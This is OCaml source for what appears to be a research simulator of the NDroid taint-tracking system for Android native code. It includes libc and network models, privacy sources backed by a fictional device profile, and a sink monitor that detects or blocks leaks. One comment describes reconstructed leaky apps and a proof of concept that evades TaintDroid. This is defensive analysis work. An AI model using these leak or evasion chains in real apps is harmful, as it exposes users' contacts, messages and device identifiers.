