lib/apps/monkey.mli: Harness Ndroid_android
