lib/apps/sec6_batch.mli: Harness
