lib/apps/cfbench.mli: Harness Ndroid_runtime
