lib/apps/cases.ml: Harness List Ndroid_arm Ndroid_dalvik Ndroid_emulator
