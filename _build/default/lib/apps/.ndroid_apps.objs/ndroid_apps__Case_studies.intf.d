lib/apps/case_studies.mli: Harness
