lib/apps/evasion.mli: Harness
