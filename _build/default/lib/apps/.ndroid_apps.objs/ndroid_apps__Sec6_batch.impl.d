lib/apps/sec6_batch.ml: Case_studies Harness List Ndroid_arm Ndroid_core Ndroid_dalvik Ndroid_emulator
