lib/apps/monkey.ml: Harness Int32 List Ndroid_android Ndroid_arm Ndroid_core Ndroid_dalvik Ndroid_emulator Ndroid_runtime Ndroid_taint Ndroid_taintdroid
