lib/apps/cfbench.ml: Harness Int32 List Ndroid_android Ndroid_arm Ndroid_dalvik Ndroid_emulator Ndroid_runtime Ndroid_taint String
