lib/apps/harness.mli: Ndroid_android Ndroid_arm Ndroid_core Ndroid_dalvik Ndroid_runtime
