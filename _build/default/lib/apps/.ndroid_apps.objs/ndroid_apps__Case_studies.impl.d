lib/apps/case_studies.ml: Harness List Ndroid_arm Ndroid_dalvik Ndroid_emulator
