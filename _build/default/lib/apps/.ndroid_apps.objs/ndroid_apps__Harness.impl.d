lib/apps/harness.ml: List Ndroid_android Ndroid_arm Ndroid_core Ndroid_dalvik Ndroid_runtime Ndroid_taint Ndroid_taintdroid String
