lib/apps/polymorphic.ml: Harness Int32 List Ndroid_arm Ndroid_dalvik Ndroid_emulator Printf
