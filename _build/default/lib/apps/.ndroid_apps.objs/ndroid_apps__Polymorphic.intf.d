lib/apps/polymorphic.mli: Harness
