lib/apps/cases.mli: Harness
