lib/apps/evasion.ml: Harness List Ndroid_android Ndroid_arm Ndroid_dalvik Ndroid_emulator Ndroid_runtime Ndroid_taint
