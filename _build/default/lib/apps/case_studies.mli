(** The paper's four evaluation apps (Sec. VI-A..D), reconstructed from the
    published flow logs.

    - {!qq_phonebook}: QQPhoneBook 3.5 (Fig. 6), case 1'.  Java passes
      contacts+SMS data (taint 0x202) into
      [makeLoginRequestPackageMd5] as its fourth argument; the native
      library squirrels it into a session buffer; a second call
      ([getPostUrl], no tainted parameters) builds
      [http://sync.3g.qq.com/xpimlogin?sid=...] with [sprintf] +
      [NewStringUTF], and Java sends it out.
    - {!ephone}: ePhone 3.3 (Fig. 7), case 2.  [callregister] receives the
      contact phone number (taint 0x2), converts it with
      [GetStringUTFChars], builds a SIP REGISTER with [sprintf]/[memcpy],
      and [sendto]s it to softphone.comwave.net.
    - {!poc_case2}: the Fig. 8 PoC.  [recordContact(id, name, email)] (all
      tainted 0x2, third argument on the stack) writes
      "1 Vincent cx@gg.com" to [/sdcard/CONTACTS] through
      [fopen]/[fprintf]/[fclose].
    - {!poc_case3}: the Fig. 9 PoC.  Java gathers device info (combined
      taint 0x1602), [evadeTaintDroid] rebuilds it with [NewStringUTF] and
      hands it back through [CallStaticVoidMethod(nativeCallback)], which
      sends it out — the Fig. 5 multilevel chain in action. *)

val qq_phonebook : Harness.app
val ephone : Harness.app
val poc_case2 : Harness.app
val poc_case3 : Harness.app

val all : Harness.app list
