module Taint = Ndroid_taint.Taint

type context = Java_context | Native_context
type policy = Observe | Block

type leak = {
  sink : string;
  context : context;
  taint : Taint.t;
  data : string;
  detail : string;
  blocked : bool;
}

type t = { mutable log : leak list; mutable policy : policy }

let create () = { log = []; policy = Observe }

let truncate s = if String.length s > 120 then String.sub s 0 117 ^ "..." else s

let record t ~sink ~context ~taint ~data ~detail ~blocked =
  t.log <-
    { sink; context; taint; data = truncate data; detail; blocked } :: t.log

let inspect t ~sink ~context ~taint ~data ~detail =
  if Taint.is_tainted taint then
    record t ~sink ~context ~taint ~data ~detail ~blocked:false

let decide t ~sink ~context ~taint ~data ~detail =
  if Taint.is_clear taint then `Allow
  else begin
    let blocked = t.policy = Block in
    record t ~sink ~context ~taint ~data ~detail ~blocked;
    if blocked then `Block else `Allow
  end

let set_policy t p = t.policy <- p
let policy t = t.policy
let blocked_count t = List.length (List.filter (fun l -> l.blocked) t.log)

let leaks t = List.rev t.log
let leak_count t = List.length t.log
let clear t = t.log <- []

let pp_leak ppf l =
  Format.fprintf ppf "[%s%s] sink=%s taint=%a dest=%s data=%S"
    (match l.context with Java_context -> "java" | Native_context -> "native")
    (if l.blocked then ", BLOCKED" else "")
    l.sink Taint.pp_verbose l.taint l.detail l.data
