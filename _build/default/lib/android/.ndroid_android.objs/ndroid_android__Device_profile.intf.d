lib/android/device_profile.mli:
