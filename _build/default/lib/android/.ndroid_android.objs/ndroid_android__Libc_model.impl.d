lib/android/libc_model.ml: Buffer Bytes Char Filesystem Hashtbl List Native_heap Ndroid_arm Network Printf String
