lib/android/sink_monitor.ml: Format List Ndroid_taint String
