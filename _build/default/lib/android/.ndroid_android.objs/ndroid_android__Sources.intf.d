lib/android/sources.mli: Device_profile Ndroid_dalvik Ndroid_taint
