lib/android/sinks.ml: Array Filesystem Framework Ndroid_dalvik Ndroid_taint Network Sink_monitor
