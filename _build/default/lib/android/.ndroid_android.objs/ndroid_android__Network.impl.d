lib/android/network.ml: Hashtbl List Printf String
