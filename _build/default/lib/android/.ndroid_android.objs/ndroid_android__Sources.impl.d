lib/android/sources.ml: Device_profile Framework Int32 List Ndroid_dalvik Ndroid_taint String
