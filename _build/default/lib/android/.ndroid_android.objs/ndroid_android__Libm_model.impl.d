lib/android/libm_model.ml: Float Int32 Int64 Ndroid_arm String
