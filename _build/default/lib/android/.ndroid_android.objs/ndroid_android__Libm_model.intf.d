lib/android/libm_model.mli: Ndroid_arm
