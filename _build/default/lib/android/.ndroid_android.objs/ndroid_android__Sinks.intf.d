lib/android/sinks.mli: Filesystem Ndroid_dalvik Network Sink_monitor
