lib/android/native_heap.ml: Hashtbl List
