lib/android/libc_model.mli: Filesystem Native_heap Ndroid_arm Network
