lib/android/framework.mli: Ndroid_dalvik
