lib/android/framework.ml: Array Char Int32 List Ndroid_dalvik Ndroid_taint String
