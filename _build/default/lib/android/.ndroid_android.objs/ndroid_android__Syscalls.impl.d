lib/android/syscalls.ml: List
