lib/android/network.mli:
