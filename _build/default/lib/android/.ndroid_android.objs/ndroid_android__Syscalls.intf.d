lib/android/syscalls.mli:
