lib/android/device_profile.ml: Printf
