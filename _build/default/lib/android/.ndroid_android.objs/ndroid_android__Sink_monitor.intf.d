lib/android/sink_monitor.mli: Format Ndroid_taint
