lib/android/native_heap.mli:
