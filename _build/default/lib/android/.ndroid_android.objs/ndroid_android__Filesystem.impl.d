lib/android/filesystem.ml: Buffer Hashtbl List Ndroid_taint Option Printf String
