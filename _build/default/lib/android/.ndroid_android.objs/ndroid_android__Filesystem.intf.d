lib/android/filesystem.mli: Ndroid_taint
