module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory

let mask32 = 0xFFFFFFFF

let get_double cpu i =
  let lo = Int64.of_int (Cpu.reg cpu i)
  and hi = Int64.of_int (Cpu.reg cpu (i + 1)) in
  Int64.float_of_bits (Int64.logor lo (Int64.shift_left hi 32))

let set_double cpu i f =
  let bits = Int64.bits_of_float f in
  Cpu.set_reg cpu i (Int64.to_int (Int64.logand bits 0xFFFFFFFFL));
  Cpu.set_reg cpu (i + 1) (Int64.to_int (Int64.shift_right_logical bits 32))

let get_float cpu i = Int32.float_of_bits (Int32.of_int (Cpu.reg cpu i))

let set_float cpu i f =
  Cpu.set_reg cpu i (Int32.to_int (Int32.bits_of_float f) land mask32)

let unary_d name op =
  ( name,
    fun cpu (_ : Memory.t) -> set_double cpu 0 (op (get_double cpu 0)) )

let binary_d name op =
  ( name,
    fun cpu (_ : Memory.t) ->
      set_double cpu 0 (op (get_double cpu 0) (get_double cpu 2)) )

let unary_f name op =
  (name, fun cpu (_ : Memory.t) -> set_float cpu 0 (op (get_float cpu 0)))

let binary_f name op =
  ( name,
    fun cpu (_ : Memory.t) -> set_float cpu 0 (op (get_float cpu 0) (get_float cpu 1))
  )

let fn_strtod =
  ( "strtod",
    fun cpu mem ->
      let s = Memory.read_cstring mem (Cpu.reg cpu 0) in
      let v = try float_of_string (String.trim s) with Failure _ -> 0.0 in
      set_double cpu 0 v )

let fn_strtol =
  ( "strtol",
    fun cpu mem ->
      let s = Memory.read_cstring mem (Cpu.reg cpu 0) in
      let v = try int_of_string (String.trim s) with Failure _ -> 0 in
      Cpu.set_reg cpu 0 (v land mask32) )

let fn_ldexp =
  ( "ldexp",
    fun cpu (_ : Memory.t) ->
      (* double in r0:r1, int exponent in r2 *)
      let x = get_double cpu 0 in
      let e =
        let v = Cpu.reg cpu 2 in
        if v land 0x80000000 <> 0 then v - 0x100000000 else v
      in
      set_double cpu 0 (ldexp x e) )

let functions =
  [ unary_d "sin" sin;
    unary_d "cos" cos;
    unary_d "tan" tan;
    unary_d "sqrt" sqrt;
    unary_d "floor" floor;
    unary_d "ceil" ceil;
    unary_d "log" log;
    unary_d "log10" log10;
    unary_d "exp" exp;
    unary_d "atan" atan;
    unary_d "asin" asin;
    unary_d "acos" acos;
    unary_d "sinh" sinh;
    unary_d "cosh" cosh;
    binary_d "pow" ( ** );
    binary_d "atan2" atan2;
    binary_d "fmod" Float.rem;
    unary_f "sinf" sin;
    unary_f "cosf" cos;
    unary_f "sqrtf" sqrt;
    unary_f "expf" exp;
    binary_f "powf" ( ** );
    binary_f "atan2f" atan2;
    fn_strtod;
    fn_strtol;
    fn_ldexp ]
