(** The hooked standard-library call surface of Table VII.

    Functions marked with [*] in the paper — [fwrite], [write], [fputc],
    [fputs], [send], [sendto] and [fprintf] — are the native-context sinks:
    "if the data carrying taint reaches calls with [*], NDroid regards it as
    a possible information leak" (Sec. V-D). *)

val hooked : string list
(** Every Table VII entry we mount in guest libc. *)

val sinks : string list
(** The [*]-marked subset. *)

val is_sink : string -> bool
val modeled_libc : string list
(** Table VI's libc column. *)

val modeled_libm : string list
(** Table VI's libm column. *)
