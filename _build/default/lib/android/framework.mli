(** Core Java classes and their framework-implemented methods.

    TaintDroid modifies "Android's application framework and DVM" (paper,
    Sec. II-B): framework methods run natively inside the VM with explicit
    taint summaries.  We model that with intrinsics: [String.concat] unions
    taints, [StringBuilder] accumulates them, [Exception.getMessage] returns
    the message with its stored tag, etc. *)

val install : Ndroid_dalvik.Vm.t -> unit
(** Define [Object], [String], [StringBuilder], the exception hierarchy, and
    register their intrinsics.  Idempotent per VM is {e not} guaranteed —
    call once. *)

val string_arg : Ndroid_dalvik.Vm.t -> Ndroid_dalvik.Vm.tval array -> int -> string
(** [string_arg vm args i] reads argument [i] as a Java string's chars.
    Helper shared by every intrinsic. *)

val int_arg : Ndroid_dalvik.Vm.tval array -> int -> int
