(** Modeled math library (Table VI's libm column).

    Soft-float AAPCS: doubles are passed and returned in register pairs
    (r0:r1, r2:r3), single-precision floats in single registers.  Each
    handler reads its arguments as raw IEEE bits from core registers,
    computes on the host, and writes the result bits back — which is also
    why NDroid's taint summary for these functions is simply
    "result taint = union of argument-register taints". *)

module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory

val functions : (string * (Cpu.t -> Memory.t -> unit)) list
(** All 26 modeled libm entries plus [strtod]/[strtol]. *)

val get_double : Cpu.t -> int -> float
(** Read a double from the register pair starting at register index. *)

val set_double : Cpu.t -> int -> float -> unit
val get_float : Cpu.t -> int -> float
val set_float : Cpu.t -> int -> float -> unit
