(** Native heap: the allocator behind the modeled [malloc]/[free]/[realloc]
    (Table VI).

    A first-fit free-list allocator over the native heap region of the guest
    address space.  Addresses land around 0x2a000000, which is why the
    paper's ePhone/PoC logs show tainted C strings at 0x2a141b90-style
    addresses. *)

type t

val region_base : int
val region_size : int

val create : unit -> t

val malloc : t -> int -> int
(** Allocate [n] bytes; returns the guest address (8-byte aligned).
    @raise Out_of_memory when the region is exhausted. *)

val free : t -> int -> unit
(** Release a block.  Freeing an unknown address is ignored (as glibc would
    corrupt silently, we prefer to shrug in a simulator). *)

val realloc : t -> int -> int -> int * int
(** [realloc h addr n] returns [(new_addr, old_size)] so the caller can copy
    [min old_size n] bytes. *)

val block_size : t -> int -> int option
(** Size of a live block. *)

val live_blocks : t -> int
val total_allocated : t -> int
(** Cumulative allocation count (CF-Bench MALLOCS accounting). *)
