(** Virtual network.

    Backs the socket calls of Table VII and the Java network sinks.  Every
    transmission is journaled with its destination, so the experiments can
    show e.g. QQPhoneBook's POST to [sync.3g.qq.com] (Fig. 6) and ePhone's
    SIP REGISTER to [softphone.comwave.net] (Fig. 7). *)

type t

type transmission = { dest : string; payload : string }

val create : unit -> t

val socket : t -> int
(** Allocate a socket descriptor. *)

val connect : t -> int -> string -> unit
(** Associate a destination host with a socket.
    @raise Invalid_argument on a bad descriptor. *)

val send : t -> int -> string -> int
(** Send on a connected socket; returns byte count.
    @raise Invalid_argument when unconnected. *)

val sendto : t -> int -> string -> string -> int
(** [sendto net fd data dest]: datagram-style send with explicit
    destination. *)

val recv : t -> int -> string
(** Canned response ("OK") — enough for apps that check for replies. *)

val close : t -> int -> unit

val transmissions : t -> transmission list
(** The journal, oldest first. *)

val dest_of : t -> int -> string option
