module Vm = Ndroid_dalvik.Vm
module Dvalue = Ndroid_dalvik.Dvalue
module Jbuilder = Ndroid_dalvik.Jbuilder
module Taint = Ndroid_taint.Taint

let telephony = "Landroid/telephony/TelephonyManager;"
let contacts = "Landroid/provider/ContactsProvider;"
let sms = "Landroid/provider/SmsProvider;"
let location = "Landroid/location/LocationManager;"

let source_catalog =
  [ (telephony, "getDeviceId", Taint.imei);
    (telephony, "getSubscriberId", Taint.imsi);
    (telephony, "getSimSerialNumber", Taint.iccid);
    (telephony, "getLine1Number", Taint.phone_number);
    (telephony, "getNetworkOperator", Taint.imsi);
    (telephony, "getDeviceSerial", Taint.device_sn);
    (contacts, "getContactCount", Taint.contacts);
    (contacts, "getContactId", Taint.contacts);
    (contacts, "getContactName", Taint.contacts);
    (contacts, "getContactEmail", Taint.contacts);
    (contacts, "getContactPhone", Taint.contacts);
    (contacts, "queryAll", Taint.contacts);
    (sms, "getSmsCount", Taint.sms);
    (sms, "getSmsBody", Taint.sms);
    (sms, "getSmsFrom", Taint.sms);
    (location, "getLatitude", Taint.location_gps);
    (location, "getLongitude", Taint.location_gps) ]

let install vm profile =
  let intr = Vm.register_intrinsic vm in
  let str tag s = fun vm (_ : Vm.tval array) -> Vm.new_string vm ~taint:tag s in
  let contact_at args =
    let i = Framework.int_arg args 0 in
    match List.nth_opt profile.Device_profile.contacts i with
    | Some c -> c
    | None ->
      { Device_profile.contact_id = 0; name = ""; email = ""; phone = "" }
  in
  (* TelephonyManager *)
  Vm.define_class vm
    (Jbuilder.class_ ~name:telephony ~super:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:telephony ~name:"getDeviceId" ~shorty:"L"
           "Telephony.getDeviceId";
         Jbuilder.intrinsic_method ~cls:telephony ~name:"getSubscriberId"
           ~shorty:"L" "Telephony.getSubscriberId";
         Jbuilder.intrinsic_method ~cls:telephony ~name:"getSimSerialNumber"
           ~shorty:"L" "Telephony.getSimSerialNumber";
         Jbuilder.intrinsic_method ~cls:telephony ~name:"getLine1Number"
           ~shorty:"L" "Telephony.getLine1Number";
         Jbuilder.intrinsic_method ~cls:telephony ~name:"getNetworkOperator"
           ~shorty:"L" "Telephony.getNetworkOperator";
         Jbuilder.intrinsic_method ~cls:telephony ~name:"getDeviceSerial"
           ~shorty:"L" "Telephony.getDeviceSerial" ]);
  intr "Telephony.getDeviceId" (str Taint.imei profile.Device_profile.imei);
  intr "Telephony.getSubscriberId" (str Taint.imsi profile.Device_profile.imsi);
  intr "Telephony.getSimSerialNumber" (str Taint.iccid profile.Device_profile.iccid);
  intr "Telephony.getLine1Number"
    (str Taint.phone_number profile.Device_profile.line1_number);
  intr "Telephony.getNetworkOperator"
    (str Taint.imsi profile.Device_profile.network_operator);
  intr "Telephony.getDeviceSerial"
    (str Taint.device_sn profile.Device_profile.device_serial);

  (* ContactsProvider *)
  Vm.define_class vm
    (Jbuilder.class_ ~name:contacts ~super:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:contacts ~name:"getContactCount"
           ~shorty:"I" "Contacts.count";
         Jbuilder.intrinsic_method ~cls:contacts ~name:"getContactId" ~shorty:"LI"
           "Contacts.id";
         Jbuilder.intrinsic_method ~cls:contacts ~name:"getContactName"
           ~shorty:"LI" "Contacts.name";
         Jbuilder.intrinsic_method ~cls:contacts ~name:"getContactEmail"
           ~shorty:"LI" "Contacts.email";
         Jbuilder.intrinsic_method ~cls:contacts ~name:"getContactPhone"
           ~shorty:"LI" "Contacts.phone";
         Jbuilder.intrinsic_method ~cls:contacts ~name:"queryAll" ~shorty:"L"
           "Contacts.queryAll" ]);
  intr "Contacts.count" (fun _vm _args ->
      ( Dvalue.Int (Int32.of_int (List.length profile.Device_profile.contacts)),
        Taint.contacts ));
  intr "Contacts.id" (fun vm args ->
      let c = contact_at args in
      Vm.new_string vm ~taint:Taint.contacts
        (string_of_int c.Device_profile.contact_id));
  intr "Contacts.name" (fun vm args ->
      Vm.new_string vm ~taint:Taint.contacts (contact_at args).Device_profile.name);
  intr "Contacts.email" (fun vm args ->
      Vm.new_string vm ~taint:Taint.contacts (contact_at args).Device_profile.email);
  intr "Contacts.phone" (fun vm args ->
      Vm.new_string vm ~taint:Taint.contacts (contact_at args).Device_profile.phone);
  intr "Contacts.queryAll" (fun vm _args ->
      let all =
        String.concat "\n"
          (List.map Device_profile.contact_record profile.Device_profile.contacts)
      in
      Vm.new_string vm ~taint:Taint.contacts all);

  (* SmsProvider *)
  Vm.define_class vm
    (Jbuilder.class_ ~name:sms ~super:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:sms ~name:"getSmsCount" ~shorty:"I"
           "Sms.count";
         Jbuilder.intrinsic_method ~cls:sms ~name:"getSmsBody" ~shorty:"LI"
           "Sms.body";
         Jbuilder.intrinsic_method ~cls:sms ~name:"getSmsFrom" ~shorty:"LI"
           "Sms.from" ]);
  let sms_at args =
    let i = Framework.int_arg args 0 in
    match List.nth_opt profile.Device_profile.sms_inbox i with
    | Some s -> s
    | None -> { Device_profile.sms_from = ""; body = "" }
  in
  intr "Sms.count" (fun _vm _args ->
      ( Dvalue.Int (Int32.of_int (List.length profile.Device_profile.sms_inbox)),
        Taint.sms ));
  intr "Sms.body" (fun vm args ->
      Vm.new_string vm ~taint:Taint.sms (sms_at args).Device_profile.body);
  intr "Sms.from" (fun vm args ->
      Vm.new_string vm ~taint:Taint.sms (sms_at args).Device_profile.sms_from);

  (* LocationManager *)
  Vm.define_class vm
    (Jbuilder.class_ ~name:location ~super:"Ljava/lang/Object;"
       [ Jbuilder.intrinsic_method ~cls:location ~name:"getLatitude" ~shorty:"D"
           "Location.latitude";
         Jbuilder.intrinsic_method ~cls:location ~name:"getLongitude" ~shorty:"D"
           "Location.longitude" ]);
  intr "Location.latitude" (fun _vm _args ->
      (Dvalue.Double profile.Device_profile.latitude, Taint.location_gps));
  intr "Location.longitude" (fun _vm _args ->
      (Dvalue.Double profile.Device_profile.longitude, Taint.location_gps))
