type contact = { contact_id : int; name : string; email : string; phone : string }
type sms = { sms_from : string; body : string }

type t = {
  imei : string;
  imsi : string;
  iccid : string;
  line1_number : string;
  network_operator : string;
  device_serial : string;
  latitude : float;
  longitude : float;
  contacts : contact list;
  sms_inbox : sms list;
}

let default =
  { imei = "357242043237517";
    imsi = "310260000000000";
    iccid = "89014103211118510720";
    line1_number = "15555215554";
    network_operator = "310260";
    device_serial = "EMULATOR29X1";
    latitude = 22.3045;
    longitude = 114.1797;
    contacts =
      [ { contact_id = 1; name = "Vincent"; email = "cx@gg.com"; phone = "4804001849" };
        { contact_id = 2; name = "Alice"; email = "alice@example.com";
          phone = "5551230001" };
        { contact_id = 3; name = "Bob"; email = "bob@example.com";
          phone = "5551230002" } ];
    sms_inbox =
      [ { sms_from = "10086"; body = "Your verification code is 314159" };
        { sms_from = "4804001849"; body = "meet at noon" } ] }

let contact_record c = Printf.sprintf "%d %s %s" c.contact_id c.name c.email
