module Cpu = Ndroid_arm.Cpu
module Memory = Ndroid_arm.Memory

type ctx = {
  fs : Filesystem.t;
  net : Network.t;
  heap : Native_heap.t;
  files : (int, int) Hashtbl.t;  (* FILE* -> fd *)
  mutable file_bump : int;
  mutable dl_open : (string -> int) option;
      (* the runtime's dynamic loader: library name -> handle (0 on error) *)
  mutable dl_sym : (int -> string -> int) option;
      (* handle -> symbol -> address (0 when absent) *)
}

let create_ctx fs net heap =
  (* FILE structures live in libc's data segment; the first stream lands at
     the address visible in the paper's Fig. 8 log. *)
  { fs; net; heap; files = Hashtbl.create 8; file_bump = 0x4006fd44;
    dl_open = None; dl_sym = None }

let mask32 = 0xFFFFFFFF

let arg cpu mem i =
  if i < 4 then Cpu.reg cpu i else Memory.read_u32 mem (Cpu.sp cpu + (4 * (i - 4)))

let ret cpu v = Cpu.set_reg cpu 0 (v land mask32)

let signed v = if v land 0x80000000 <> 0 then v - 0x100000000 else v

type vararg = Str of { addr : int; value : string } | Num of int

let format_args mem cpu ~fmt ~first =
  let fmt_s = Memory.read_cstring mem fmt in
  let buf = Buffer.create (String.length fmt_s + 16) in
  let consumed = ref [] in
  let argi = ref first in
  let next_arg () =
    let v = arg cpu mem !argi in
    incr argi;
    v
  in
  let n = String.length fmt_s in
  let rec go i =
    if i >= n then ()
    else if fmt_s.[i] = '%' && i + 1 < n then begin
      (match fmt_s.[i + 1] with
       | 's' ->
         let addr = next_arg () in
         let value = Memory.read_cstring mem addr in
         consumed := Str { addr; value } :: !consumed;
         Buffer.add_string buf value
       | 'd' ->
         let v = next_arg () in
         consumed := Num v :: !consumed;
         Buffer.add_string buf (string_of_int (signed v))
       | 'u' ->
         let v = next_arg () in
         consumed := Num v :: !consumed;
         Buffer.add_string buf (string_of_int v)
       | 'x' ->
         let v = next_arg () in
         consumed := Num v :: !consumed;
         Buffer.add_string buf (Printf.sprintf "%x" v)
       | 'c' ->
         let v = next_arg () in
         consumed := Num v :: !consumed;
         Buffer.add_char buf (Char.chr (v land 0xFF))
       | '%' -> Buffer.add_char buf '%'
       | c ->
         Buffer.add_char buf '%';
         Buffer.add_char buf c);
      go (i + 2)
    end
    else begin
      Buffer.add_char buf fmt_s.[i];
      go (i + 1)
    end
  in
  go 0;
  (Buffer.contents buf, List.rev !consumed)

let file_fd ctx file_ptr = Hashtbl.find_opt ctx.files file_ptr

let set_dl ctx ~dl_open ~dl_sym =
  ctx.dl_open <- Some dl_open;
  ctx.dl_sym <- Some dl_sym

let new_file ctx fd =
  let ptr = ctx.file_bump in
  ctx.file_bump <- ctx.file_bump + 0x54;
  Hashtbl.replace ctx.files ptr fd;
  ptr

let copy_bytes mem ~src ~dst ~len =
  (* snapshot first: memmove semantics for overlapping ranges *)
  let snap = Memory.read_bytes mem src len in
  Memory.write_bytes mem dst snap

let lower s = String.lowercase_ascii s

(* --- individual functions --- *)

let fn_memcpy _ctx cpu mem =
  let dst = arg cpu mem 0 and src = arg cpu mem 1 and n = arg cpu mem 2 in
  copy_bytes mem ~src ~dst ~len:n;
  ret cpu dst

let fn_memset _ctx cpu mem =
  let dst = arg cpu mem 0 and c = arg cpu mem 1 and n = arg cpu mem 2 in
  for i = 0 to n - 1 do
    Memory.write_u8 mem (dst + i) c
  done;
  ret cpu dst

let fn_memcmp _ctx cpu mem =
  let a = arg cpu mem 0 and b = arg cpu mem 1 and n = arg cpu mem 2 in
  let rec loop i =
    if i >= n then 0
    else
      let d = Memory.read_u8 mem (a + i) - Memory.read_u8 mem (b + i) in
      if d <> 0 then d else loop (i + 1)
  in
  ret cpu (loop 0)

let fn_memchr _ctx cpu mem =
  let s = arg cpu mem 0 and c = arg cpu mem 1 land 0xFF and n = arg cpu mem 2 in
  let rec loop i =
    if i >= n then 0
    else if Memory.read_u8 mem (s + i) = c then s + i
    else loop (i + 1)
  in
  ret cpu (loop 0)

let fn_strlen _ctx cpu mem =
  ret cpu (String.length (Memory.read_cstring mem (arg cpu mem 0)))

let str_compare ~ci ~limit cpu mem =
  let a = Memory.read_cstring mem (arg cpu mem 0)
  and b = Memory.read_cstring mem (arg cpu mem 1) in
  let a, b = if ci then (lower a, lower b) else (a, b) in
  let a, b =
    match limit with
    | Some n ->
      let cut s = if String.length s > n then String.sub s 0 n else s in
      (cut a, cut b)
    | None -> (a, b)
  in
  ret cpu (compare a b)

let fn_strcmp _ctx cpu mem = str_compare ~ci:false ~limit:None cpu mem

let fn_strncmp _ctx cpu mem =
  str_compare ~ci:false ~limit:(Some (arg cpu mem 2)) cpu mem

let fn_strcasecmp _ctx cpu mem = str_compare ~ci:true ~limit:None cpu mem

let fn_strncasecmp _ctx cpu mem =
  str_compare ~ci:true ~limit:(Some (arg cpu mem 2)) cpu mem

let fn_strcpy _ctx cpu mem =
  let dst = arg cpu mem 0 and src = arg cpu mem 1 in
  let s = Memory.read_cstring mem src in
  Memory.write_cstring mem dst s;
  ret cpu dst

let fn_strncpy _ctx cpu mem =
  let dst = arg cpu mem 0 and src = arg cpu mem 1 and n = arg cpu mem 2 in
  let s = Memory.read_cstring mem src in
  let len = min (String.length s) n in
  Memory.write_string mem dst (String.sub s 0 len);
  for i = len to n - 1 do
    Memory.write_u8 mem (dst + i) 0
  done;
  ret cpu dst

let fn_strcat _ctx cpu mem =
  let dst = arg cpu mem 0 and src = arg cpu mem 1 in
  let d = Memory.read_cstring mem dst and s = Memory.read_cstring mem src in
  Memory.write_cstring mem (dst + String.length d) s;
  ignore s;
  ret cpu dst

let find_char mem s c ~from_end =
  let str = Memory.read_cstring mem s in
  let pos =
    if from_end then String.rindex_opt str (Char.chr (c land 0xFF))
    else String.index_opt str (Char.chr (c land 0xFF))
  in
  match pos with Some i -> s + i | None -> 0

let fn_strchr _ctx cpu mem =
  ret cpu (find_char mem (arg cpu mem 0) (arg cpu mem 1) ~from_end:false)

let fn_strrchr _ctx cpu mem =
  ret cpu (find_char mem (arg cpu mem 0) (arg cpu mem 1) ~from_end:true)

let fn_strstr _ctx cpu mem =
  let hay_addr = arg cpu mem 0 in
  let hay = Memory.read_cstring mem hay_addr
  and needle = Memory.read_cstring mem (arg cpu mem 1) in
  if needle = "" then ret cpu hay_addr
  else begin
    let nl = String.length needle and hl = String.length hay in
    let rec loop i =
      if i + nl > hl then 0
      else if String.sub hay i nl = needle then hay_addr + i
      else loop (i + 1)
    in
    ret cpu (loop 0)
  end

let parse_int s =
  let s = String.trim s in
  let rec digits i = if i < String.length s && (s.[i] >= '0' && s.[i] <= '9') then digits (i+1) else i in
  let start = if String.length s > 0 && (s.[0] = '-' || s.[0] = '+') then 1 else 0 in
  let stop = digits start in
  if stop = start then 0 else int_of_string (String.sub s 0 stop)

let fn_atoi _ctx cpu mem = ret cpu (parse_int (Memory.read_cstring mem (arg cpu mem 0)))
let fn_atol = fn_atoi

let fn_strtoul _ctx cpu mem =
  let s = Memory.read_cstring mem (arg cpu mem 0) in
  let endp = arg cpu mem 1 in
  let v = parse_int s in
  if endp <> 0 then Memory.write_u32 mem endp (arg cpu mem 0 + String.length s);
  ret cpu v

let fn_malloc ctx cpu mem =
  ignore mem;
  ret cpu (Native_heap.malloc ctx.heap (arg cpu mem 0))

let fn_calloc ctx cpu mem =
  let n = arg cpu mem 0 * arg cpu mem 1 in
  let p = Native_heap.malloc ctx.heap n in
  for i = 0 to n - 1 do
    Memory.write_u8 mem (p + i) 0
  done;
  ret cpu p

let fn_free ctx cpu mem =
  ignore mem;
  Native_heap.free ctx.heap (arg cpu mem 0);
  ret cpu 0

let fn_realloc ctx cpu mem =
  let old = arg cpu mem 0 and n = arg cpu mem 1 in
  let fresh, old_size = Native_heap.realloc ctx.heap old n in
  if old <> 0 && old_size > 0 then
    copy_bytes mem ~src:old ~dst:fresh ~len:(min old_size n);
  ret cpu fresh

let fn_strdup ctx cpu mem =
  let s = Memory.read_cstring mem (arg cpu mem 0) in
  let p = Native_heap.malloc ctx.heap (String.length s + 1) in
  Memory.write_cstring mem p s;
  ret cpu p

let fn_sprintf _ctx cpu mem =
  let buf = arg cpu mem 0 in
  let rendered, _ = format_args mem cpu ~fmt:(arg cpu mem 1) ~first:2 in
  Memory.write_cstring mem buf rendered;
  ret cpu (String.length rendered)

let fn_snprintf _ctx cpu mem =
  let buf = arg cpu mem 0 and n = arg cpu mem 1 in
  let rendered, _ = format_args mem cpu ~fmt:(arg cpu mem 2) ~first:3 in
  let cut = if String.length rendered >= n then String.sub rendered 0 (max 0 (n - 1)) else rendered in
  Memory.write_cstring mem buf cut;
  ret cpu (String.length rendered)

let fn_sscanf _ctx cpu mem =
  (* minimal %d / %s support *)
  let input = Memory.read_cstring mem (arg cpu mem 0) in
  let fmt = Memory.read_cstring mem (arg cpu mem 1) in
  let tokens =
    String.split_on_char ' ' input |> List.filter (fun s -> s <> "")
  in
  let specs =
    let rec collect i acc =
      if i + 1 >= String.length fmt then List.rev acc
      else if fmt.[i] = '%' then collect (i + 2) (fmt.[i + 1] :: acc)
      else collect (i + 1) acc
    in
    collect 0 []
  in
  let rec fill i specs tokens matched =
    match (specs, tokens) with
    | [], _ | _, [] -> matched
    | spec :: specs', tok :: tokens' ->
      let dst = arg cpu mem (2 + i) in
      (match spec with
       | 'd' -> Memory.write_u32 mem dst (parse_int tok land mask32)
       | 's' -> Memory.write_cstring mem dst tok
       | _ -> ());
      fill (i + 1) specs' tokens' (matched + 1)
  in
  ret cpu (fill 0 specs tokens 0)

let fn_sysconf _ctx cpu mem =
  ignore mem;
  (* _SC_PAGESIZE and friends: one plausible constant. *)
  ret cpu 4096

